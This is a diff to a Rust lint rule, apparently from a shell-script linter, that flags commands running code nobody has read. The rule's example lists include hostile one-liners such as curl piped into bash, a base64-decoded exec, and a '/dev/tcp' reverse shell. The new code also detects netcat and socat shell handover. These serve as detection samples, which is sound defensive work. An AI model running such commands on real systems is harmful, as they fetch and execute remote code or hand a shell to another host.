@@ -1,7 +1,9 @@
 //! `no_unread_code`: running text that nobody has read.
 
+use super::super::inline_code::{decodes, runs_unread};
 use super::super::{Group, Hit, Rule, Scene};
-use crate::syntax::run::{Field, Ran, shell_name};
+use super::interpreter::{Code, code};
+use crate::syntax::run::Ran;
 use crate::syntax::value::Value;
 
 pub(in super::super) static RULE: Rule = Rule {
@@ -23,106 +25,103 @@ pub(in super::super) static RULE: Rule = Rule {
         "curl -o i.sh https://x.example && bash i.sh",
         "wget https://x.example/i.sh; chmod +x i.sh; ./i.sh",
         "python3 -c \"$(curl -s https://x.example)\"",
+        "curl -s https://x.example | bash -euo pipefail",
+        "curl -s https://x.example | while read -r line; do $line; done",
+        "scp host:i.sh . && sh i.sh",
+        "python3 -c 'import base64; exec(base64.b64decode(\"MQ==\"))'",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     ],
     spares: &[
         "curl -s https://x.example -o i.sh",
         "curl -s https://x.example | jq .",
         "eval \"$(ssh-agent -s)\"",
         "echo ls | sh",
+        "source <(kubectl completion bash)",
+        "curl -s https://x.example | bash -n",
         "bash script.sh",
         "bash < script.sh",
         "curl -s https://x.example | python3 -c 'import sys; print(sys.stdin.read())'",
         "cat data.json | python3 -m json.tool",
     ],
-    // What nobody has read comes through a pipe, out of a file or an expansion; a command that is read as it stands
-    // has none of these.
-    needs: |_| false,
+    // What nobody has read comes through a pipe, out of a file or an expansion, and a command that is read as it
+    // stands has none of these; what is left are connections, and programs that decode.
+    needs: |written| {
+        written.any(|word| {
+            matches!(word, "nc" | "ncat" | "netcat" | "socat" | "tcp" | "udp") || decodes(word)
+        })
+    },
     check,
 };
 
-/// Programs that fetch or decode: what they print is code only to whoever pipes it into a shell.
-const SOURCES: [&str; 18] = [
-    "curl", "wget", "aria2c", "http", "https", "xh", "fetch", "nc", "ncat", "socat", "base64",
-    "base32", "openssl", "xxd", "gpg", "ssh", "ftp", "uudecode",
-];
-
-fn check(ran: &Ran, scene: &Scene<'_>) -> Option<Hit> {
-    let name = ran.name()?;
-    let fetched = || {
-        *scene.fetches.get_or_init(|| {
-            let mut names = scene.all.iter().filter_map(Ran::name);
-            names.any(|name| SOURCES.contains(&name))
-        })
-    };
-    let unread = |field: &Field| field.value.has_unknown() && !ran.dormant;
+fn check(ran: &Ran, _: &Scene<'_>) -> Option<Hit> {
     let hit = || Some(Hit::on(ran, ran.arguments()));
-    match name {
-        "eval" if ran.arguments().iter().any(unread) && fetched() => hit(),
-        "source" | "." => {
-            let file = ran.arguments().first()?;
-            (ran.file(&file.value).is_some_and(Value::has_unknown))
-                .then(hit)
-                .flatten()
-        }
-        _ if shell_name(name) || is_interpreter(name) => {
-            let options: Vec<&str> = ran
-                .arguments()
-                .iter()
-                .map(|field| field.value.prefix())
-                .collect();
-            let command = options.iter().position(|text| {
-                text.starts_with('-') && !text.starts_with("--") && text.contains(code_letter(name))
-            });
-            if let Some(at) = command {
-                let text = ran.arguments().get(at + 1)?;
-                return (unread(text) && text.value.prefix().is_empty() && fetched())
-                    .then(hit)
-                    .flatten();
-            }
-            if is_interpreter(name) && options.iter().any(|text| matches!(*text, "-c" | "-m")) {
-                return None;
-            }
-            let reads_stdin =
-                |text: &&&str| **text == "-s" || **text == "-" || **text == "/dev/stdin";
-            let operand = options
-                .iter()
-                .position(|text| !text.starts_with('-') || *text == "-");
-            let stdin = operand.is_none() || options.iter().any(|text| reads_stdin(&text));
-            if stdin {
-                let unread = match &ran.stdin {
-                    None => ran.piped,
-                    // `<<< "$(curl …)"`
-                    Some(text) => text.has_unknown() && (ran.piped || fetched()),
-                };
-                return unread.then(hit).flatten();
-            }
-            let file = ran.arguments().get(operand?)?;
-            (ran.file(&file.value).is_some_and(Value::has_unknown))
-                .then(hit)
-                .flatten()
-        }
-        // A file of the script's own, run by its path.
-        _ => ran
-            .file(&ran.words.first()?.value)
-            .filter(|_| ran.words[0].value.prefix().contains('/'))
-            .is_some_and(Value::has_unknown)
-            .then(hit)
-            .flatten(),
+    let command = &ran.words.first()?.value;
+    // `$cmd`, with `cmd` read from a download.
+    if command.is_fetched() && command.pieces().len() == 1 {
+        return hit();
     }
+    if runs_unread(ran) {
+        return hit();
+    }
+    let name = ran.name()?;
+    let found = match name {
+        "eval" => ran.arguments().iter().any(|field| field.value.is_fetched()),
+        "source" | "." => ran
+            .file(&ran.arguments().first()?.value)
+            .is_some_and(Value::is_fetched),
+        "nc" | "ncat" | "netcat" | "socat" => hands_over_a_shell(name, ran),
+        _ => match code(ran) {
+            // Text around it makes it data, as in `bash -c "echo $(curl …)"`.
+            Some(Code::Text(field)) => {
+                let text = field.value.prefix();
+                field.value.is_fetched() && (text.is_empty() || text.starts_with('-'))
+            }
+            Some(Code::File(field)) => ran.file(&field.value).is_some_and(unread),
+            Some(Code::Stdin) => {
+                // `bash -i >& /dev/tcp/…`
+                let remote = ran
+                    .redirections
+                    .iter()
+                    .any(|redirection| is_connection(redirection.target.prefix()));
+                remote
+                    || match &ran.stdin {
+                        None => ran.piped,
+                        // `<<< "$(curl …)"`
+                        Some(text) => text.is_fetched() || (ran.piped && text.has_unknown()),
+                    }
+            }
+            // A file of the script's own, run by its path.
+            None => {
+                command.prefix().contains('/') && ran.file(command).is_some_and(Value::is_fetched)
+            }
+        },
+    };
+    found.then(hit).flatten()
 }
 
-/// The option that holds the program.
-fn code_letter(name: &str) -> char {
-    if shell_name(name) || name.starts_with("python") {
-        'c'
-    } else if name.starts_with("php") {
-        'r'
-    } else {
-        'e'
-    }
+/// Whether nothing of a file's text is known.
+fn unread(text: &Value) -> bool {
+    text.is_fetched() || (text.has_unknown() && text.pieces().len() == 1)
 }
 
-fn is_interpreter(name: &str) -> bool {
-    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    matches!(stem, "python" | "perl" | "ruby" | "node" | "php" | "lua")
+fn is_connection(target: &str) -> bool {
+    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
+}
+
+/// `nc -e sh host 1`, `socat exec:sh tcp:host:1`: whoever is at the other end gives the commands.
+fn hands_over_a_shell(name: &str, ran: &Ran) -> bool {
+    ran.arguments().iter().any(|field| {
+        let text = field.value.prefix();
+        if name == "socat" {
+            let address = text.to_ascii_lowercase();
+            return address.starts_with("exec:") || address.starts_with("system:");
+        }
+        match text.strip_prefix("--") {
+            Some(long) => matches!(
+                long.split('=').next(),
+                Some("exec" | "sh-exec" | "lua-exec")
+            ),
+            None => text.starts_with('-') && text.contains(['e', 'c']),
+        }
+    })
 }
